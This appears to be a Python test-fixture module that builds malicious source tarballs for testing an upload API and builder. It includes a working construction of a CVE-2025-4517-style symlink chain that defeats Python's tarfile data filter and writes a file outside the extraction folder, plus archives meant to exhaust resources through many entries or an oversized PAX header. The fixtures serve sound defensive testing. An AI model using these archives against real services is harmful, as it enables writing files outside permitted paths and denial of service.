"""Malicious source tarballs, built in-process for the tests of the api and the builder."""

from __future__ import annotations

import gzip
import io
import os
import tarfile


def entry(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", data: bytes = b"") -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, link, len(data)
    return info, data


def tarball(entries: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT, compresslevel=1) as tar:
        for info, data in entries:
            tar.addfile(info, io.BytesIO(data) if data else None)
    return buffer.getvalue()


def link_through_link_escape() -> bytes:
    """CVE-2025-4517's shape: symlinks `a`..`p` to long folder names make the data filter's
    realpath() overrun PATH_MAX and give up resolving, so it passes `escape`, a link that reads as
    inside the tree but lands in the extraction folder's parent; `escape/pwned` is then written
    there. Each link on its own stays inside when read lexically."""
    comp, steps = "d" * 247, "abcdefghijklmnop"
    entries, path = [], ""
    for step in steps:
        entries.append(entry(os.path.join(path, comp), tarfile.DIRTYPE))
        entries.append(entry(os.path.join(path, step), tarfile.SYMTYPE, comp))
        path = os.path.join(path, comp)
    deep = os.path.join(*steps, "l" * 254)
    entries.append(entry(deep, tarfile.SYMTYPE, "../" * len(steps)))
    entries.append(entry("escape", tarfile.SYMTYPE, deep + "/.."))
    entries.append(entry("escape/pwned", data=b"owned\n"))
    return tarball(entries)


def many_entries(count: int) -> bytes:
    """`count` empty files in one small upload (each header is 512 bytes that compress to ~nothing)."""
    header = entry("f")[0].tobuf(format=tarfile.USTAR_FORMAT)
    return gzip.compress(header * count + b"\0" * 1024, compresslevel=1)


def huge_pax_header(size: int) -> bytes:
    info, data = entry("predict.py", data=b"def predict():\n    return 1\n")
    info.pax_headers = {"comment": "x" * size}
    return tarball([(info, data)])
